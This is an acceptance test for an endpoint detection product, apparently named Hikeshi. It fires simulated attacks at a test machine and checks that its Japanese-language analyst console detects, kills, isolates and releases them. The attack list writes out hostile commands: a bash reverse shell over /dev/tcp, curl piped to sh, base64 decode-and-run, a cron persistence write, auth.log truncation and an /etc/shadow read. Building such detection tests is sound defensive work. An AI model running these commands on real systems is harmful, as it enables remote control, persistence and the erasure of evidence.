// timeout: 600
/*
 * The road, whole: five imitations of real attacks on a PC of its own, seen by
 * the real agent, detected by our own rules at the real centre, shown in a
 * real browser without a reload, and answered: kill, isolate, release, proved
 * by what the network carries.
 */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { mkdirSync, readFileSync, statSync, existsSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { chromium } from "playwright-core";
import { OUTSIDE, PEOPLE, run, sleep, top, until, World } from "./world.mjs";

const LATENCY_MS = 1000;     /* event on the device to row in the browser, 99 of 100 */
const LATENCY_SAMPLES = 100;
const PASSWORD = "correct horse battery staple";
const shots = join(top, "out/screenshots");

const root = process.getuid?.() === 0;
if (!root && process.env.CI) throw new Error("the acceptance test needs root, and never skips in CI");
const skip = root ? false : "NOT ROOT: namespaces cannot be made, the road is NOT tested";

let world, browser, page;
const hostFiles = ["/etc/crontab", "/etc/cron.d", "/var/log", "/etc/passwd"];
const fingerprint = () => JSON.stringify([
	hostFiles.filter(existsSync).map((f) => (statSync(f).isDirectory() && f !== "/var/log" ? readdirSync(f).sort() : [f, f === "/var/log" ? 0 : statSync(f).mtimeMs])),
	run("ip", "-o", "address").replace(/valid_lft.*|preferred_lft.*/g, ""),
	run("nft", "list", "tables"),
]);
let hostBefore;

const api = (method, path, body) => page.evaluate(async ([m, p, b]) => {
	const me = await (await fetch("/v1/me")).json();
	const response = await fetch(p, { method: m, headers: { "Content-Type": "application/json", "Hikeshi-CSRF": me.csrf ?? "" },
		...(b ? { body: JSON.stringify(b) } : {}) });
	return response.status === 204 ? null : response.json();
}, [method, path, body]);

async function axe(name) {
	await page.evaluate(readFileSync(join(top, "node_modules/axe-core/axe.min.js"), "utf8"));
	const result = await page.evaluate(() => globalThis.axe.run({ runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"] }));
	assert.deepEqual(result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.html.slice(0, 120)).join(" | ")}`), [], `axe on ${name}`);
}

async function picture(name, check = true) {
	for (const [kind, viewport] of [["wide", { width: 1280, height: 800 }], ["phone", { width: 390, height: 844 }]]) {
		await page.setViewportSize(viewport);
		await sleep(100);
		await page.screenshot({ path: join(shots, `${name}-${kind}.png`), fullPage: kind === "phone" });
		const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
		assert.ok(overflow <= 0, `${name} is ${overflow} px too wide for a ${kind} screen`);
		if (check) await axe(`${name}, ${kind}`);
	}
	await page.setViewportSize({ width: 1280, height: 800 });
}

/* Notes when each incident's row came to the eye. */
const watchRows = () => page.evaluate(() => {
	globalThis.rowSeen = {};
	const look = () => {
		for (const link of document.querySelectorAll("a[data-row]")) {
			const id = link.getAttribute("href").split("/").pop();
			globalThis.rowSeen[id] ??= Date.now();
		}
	};
	look();
	new MutationObserver(look).observe(document.body, { childList: true, subtree: true, attributes: true });
});

const incidents = async () => (await api("GET", "/v1/incidents?limit=200")).items;

before(async () => {
	if (skip) return;
	mkdirSync(shots, { recursive: true });
	hostBefore = fingerprint();
	world = new World();
	await world.start();
	await world.centre();
	await world.agent();
	browser = await chromium.launch({ executablePath: world.browserPath(), args: [
		"--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
		"--disable-component-update", "--disable-sync"] });
	const context = await browser.newContext({ ignoreHTTPSErrors: true, locale: "ja-JP", viewport: { width: 1280, height: 800 } });
	page = await context.newPage();
	page.setDefaultTimeout(15000);
}, { timeout: 120000 });

after(async () => {
	if (process.env.HIKESHI_KEEP && world) console.log(`# kept: ${world.folder}`);
	await browser?.close();
	await world?.stop();
}, { timeout: 60000 });

test("an analyst signs in with the one-time password and chooses an own one", { skip }, async () => {
	const account = world.accounts.find((a) => a.role === "analyst");
	await page.goto(`${PEOPLE}/`);
	await page.getByLabel("メールアドレス").waitFor();
	await picture("sign-in");
	await page.getByLabel("メールアドレス").fill(account.name);
	await page.getByLabel("パスワード", { exact: false }).first().fill("wrong password");
	await page.getByRole("button", { name: "サインイン" }).click();
	await page.getByRole("alert").waitFor();
	await page.locator("#password").fill(account.password);
	await page.getByRole("button", { name: "サインイン" }).click();
	await page.getByRole("heading", { name: "新しいパスワードを決めてください" }).waitFor();
	await picture("password");
	await page.locator("#current").fill(account.password);
	await page.locator("#new").fill(PASSWORD);
	await page.getByRole("button", { name: "パスワードを変更する" }).click();
	await page.getByRole("heading", { name: "インシデント" }).waitFor();
	await until("the agent's device", 15, async () => {
		const { items } = await api("GET", "/v1/devices");
		return items.length === 1 && items[0].hostname === "office-pc" && items[0].last_seen;
	});
});

const SERVICES = `
import net from "node:net";
import http from "node:http";
/* the intruder's listener: says when a shell comes and when it goes */
net.createServer((socket) => {
	console.log("shell open");
	socket.on("data", () => {});
	socket.on("error", () => {});
	socket.on("close", () => console.log("shell closed"));
}).listen(4444, "127.0.0.1");
http.createServer((request, response) => response.end("id >/dev/null; uname -a >/dev/null\\n")).listen(8000, "127.0.0.1", () => console.log("listening"));
`;
const attacks = [
	{ name: "decode and run", line: `echo ${Buffer.from("id; uname -a; whoami").toString("base64")} | base64 -d | sh`, rule: "暗号化・符号化された命令を復元して即実行" },
	{ name: "reverse shell", line: "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", shell: "bash", rule: "外部から遠隔操作するための接続（リバースシェル）" },
	{ name: "cron persistence", line: "echo '* * * * * root /bin/true' > /etc/cron.d/update", rule: "定期実行（cron）への書き込み" },
	{ name: "log clearing", line: "truncate -s 0 /var/log/auth.log", rule: "操作の記録（ログ）の消去" },
	{ name: "download and run", line: "curl -s http://127.0.0.1:8000/x.sh | sh", rule: "ダウンロードしたプログラムの即時実行" },
];
let shellLines = [];

test("five attacks become one incident each, without a reload", { skip }, async (t) => {
	const services = world.service(world.office, SERVICES);
	services.lines.on("line", (line) => shellLines.push(line));
	await until("the intruder's servers", 10, () => shellLines.includes("listening"));
	await page.goto(`${PEOPLE}/incidents`);
	await page.getByText("自動更新中").waitFor();
	await page.getByText("対応が必要なインシデントはありません").waitFor();
	await picture("incidents-none");
	await watchRows();
	for (const attack of attacks) {
		world.attack(attack.line, attack.shell);
		await page.getByRole("link", { name: attack.rule, exact: true }).waitFor({ timeout: 5000 });
		await sleep(700);
	}
	await sleep(1500);
	const list = await incidents();
	t.diagnostic(list.map((i) => `#${i.number} ${i.severity} ${i.title_ja} (${i.detections})`).join("; "));
	assert.equal(list.length, attacks.length, "one incident each");
	assert.deepEqual(list.map((i) => i.title_ja).sort(), attacks.map((a) => a.rule).sort());
	assert.ok(shellLines.includes("shell open"), "the reverse shell reached its listener");
	assert.equal(statSync(world.path("/var/log/auth.log")).size, 0, "the log was really cleared (in the office)");
	await picture("incidents");
});

test(`an event is before the analyst's eyes within ${LATENCY_MS} ms, 99 of ${LATENCY_SAMPLES} times`, { skip, timeout: 120000 }, async (t) => {
	const known = new Set((await incidents()).map((i) => i.id));
	for (let i = 0; i < LATENCY_SAMPLES; i++) {
		world.attack(`echo ${Buffer.from(`echo ${i}`).toString("base64")} | base64 -d | sh`);
		await sleep(200);
	}
	const fresh = await until("all incidents", 15, async () => {
		const list = (await incidents()).filter((i) => !known.has(i.id));
		return list.length >= LATENCY_SAMPLES && list;
	});
	assert.equal(fresh.length, LATENCY_SAMPLES);
	await sleep(1000);
	const seen = await page.evaluate(() => globalThis.rowSeen);
	const delays = fresh.map((i) => (seen[i.id] ?? Infinity) - Date.parse(i.first_seen)).sort((a, b) => a - b);
	const at = (share) => delays[Math.min(delays.length - 1, Math.ceil(share * delays.length) - 1)];
	const detected = fresh.map((i) => Date.parse(i.opened) - Date.parse(i.first_seen)).sort((a, b) => a - b);
	t.diagnostic(`event to incident: p50 ${detected[LATENCY_SAMPLES / 2]} ms, worst ${detected[LATENCY_SAMPLES - 1]} ms`);
	t.diagnostic(`event to eye: p50 ${at(0.5)} ms, p90 ${at(0.9)} ms, p99 ${at(0.99)} ms, worst ${at(1)} ms`);
	assert.ok(at(0.99) <= LATENCY_MS, `p99 is ${at(0.99)} ms`);
});

test("the incident's page tells what happened and why", { skip }, async () => {
	const list = await incidents();
	const shell = list.find((i) => i.title_ja === attacks[1].rule);
	await page.goto(`${PEOPLE}/incidents/${shell.id}`);
	await page.getByRole("heading", { name: attacks[1].rule }).waitFor();
	const tree = page.getByRole("region", { name: "プロセスツリー" });
	await tree.getByText("bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1").first().waitFor();
	await page.locator("mark", { hasText: "/dev/tcp/" }).first().waitFor();
	await page.getByRole("button", { name: "元のイベントを見る" }).first().click();
	await page.locator("dl.event dt", { hasText: "CommandLine" }).first().waitFor();
	await page.getByLabel("メモの内容").fill("会社に電話で確認。覚えがないとのこと。");
	await page.getByRole("button", { name: "メモを残す" }).click();
	await page.getByText("会社に電話で確認。覚えがないとのこと。").first().waitFor();
	await page.getByRole("button", { name: "自分が担当する" }).click();
	await page.locator(".timeline").getByText("担当：").waitFor();
	await picture("incident");
});

/* The dialog's reason: the page behind it asks for one too, that of the judgement. */
async function confirm(reason) {
	const dialog = page.getByRole("dialog");
	await dialog.getByLabel("理由").fill(reason);
	await dialog.getByRole("button", { name: "実行する" }).click();
}

test("killing the process tree ends the intruder's shell", { skip }, async () => {
	await page.getByRole("button", { name: /このプロセスを停止/ }).first().click();
	await picture("dialog");
	await confirm("侵入者の操作を止めるため");
	await page.locator(".action-done", { hasText: "プロセスを停止する" }).waitFor({ timeout: 10000 });
	await until("the shell's connection closes", 5, () => shellLines.includes("shell closed"));
});

const BEAT = `
import net from "node:net";
setInterval(() => {
	const socket = net.connect({ host: "${OUTSIDE}", port: 9000, timeout: 80 });
	socket.on("connect", () => { socket.end(); });
	socket.on("timeout", () => socket.destroy());
	socket.on("error", () => {});
}, 100);
`;
const COUNT = `
import net from "node:net";
let n = 0;
net.createServer((socket) => { n++; socket.on("error", () => {}); socket.on("data", () => {}); socket.end(); })
	.listen(9000, "${OUTSIDE}", () => console.log("listening"));
setInterval(() => console.log(n), 100);
`;

async function respond(button, reason) {
	await page.getByRole("button", { name: button, exact: true }).click();
	await confirm(reason);
	await page.locator(".action-done", { hasText: button }).waitFor({ timeout: 10000 });
}

test("isolation stops every packet but the centre's, release lets them flow", { skip }, async (t) => {
	let reached = 0;
	const counter = world.service(world.outside, COUNT);
	const lines = [];
	counter.lines.on("line", (line) => { lines.push(line); reached = Number(line) || reached; });
	await until("the outside's server", 10, () => lines.includes("listening"));
	world.service(world.office, BEAT);
	await until("heart-beats outside", 10, () => reached >= 5);

	await respond("端末を隔離する", "被害の拡大を防ぐため（会社の了承あり）");
	await page.locator(".isolated").waitFor();
	await sleep(500);
	const [beats, packets] = [reached, world.packetsOutside()];
	await sleep(3000);
	const leaked = world.packetsOutside() - packets;
	t.diagnostic(`while isolated for 3 s: ${reached - beats} connections, ${leaked} packets outside`);
	assert.equal(reached - beats, 0, "no connection gets out");
	assert.equal(leaked, 0, "no packet gets out");
	await until("the device still speaks with the centre", 10, async () => {
		world.attack("cat /etc/shadow >/dev/null");
		await sleep(500);
		return (await incidents()).some((i) => i.title_ja === "パスワード情報ファイルの読み取り");
	});
	await picture("isolated");

	await respond("隔離を解除する", "原因を取り除いたため");
	await until("heart-beats again", 10, () => reached > beats + 5);
	assert.ok(world.packetsOutside() > packets, "packets flow again");
});

test("triage data is collected, and the trail knows who did what", { skip }, async () => {
	await respond("調査用データを集める", "原因を調べるため");
	await page.getByRole("navigation").getByRole("link", { name: "端末", exact: true }).click();
	await page.getByRole("link", { name: "office-pc" }).waitFor();
	await picture("devices");
	await page.getByRole("link", { name: "office-pc" }).click();
	await page.getByRole("heading", { name: "office-pc" }).waitFor();
	await picture("device");
	for (const [name, heading, link] of [["detections", "検知", "検知"], ["rules", "検知ルール", "検知ルール"], ["tokens", "APIトークン", "APIトークン"]]) {
		await page.getByRole("navigation").getByRole("link", { name: link, exact: true }).click();
		await page.getByRole("heading", { name: heading, exact: true }).waitFor();
		await page.waitForLoadState("networkidle").catch(() => undefined);
		await picture(name);
	}
	const { items } = await api("GET", "/v1/audit?limit=200");
	assert.ok(items.some((e) => /isolate|action/.test(e.action)), "actions are on the trail");
});

test("English by one click, and it stays", { skip }, async () => {
	await page.goto(`${PEOPLE}/incidents`);
	await page.getByRole("button", { name: "English" }).click();
	await page.getByRole("heading", { name: "Incidents" }).waitFor();
	await page.reload();
	await page.getByRole("heading", { name: "Incidents" }).waitFor();
	await page.getByRole("button", { name: "日本語" }).click();
	await page.getByRole("heading", { name: "インシデント" }).waitFor();
});

test("nothing of the host was touched", { skip }, () => {
	assert.equal(fingerprint(), hostBefore);
});
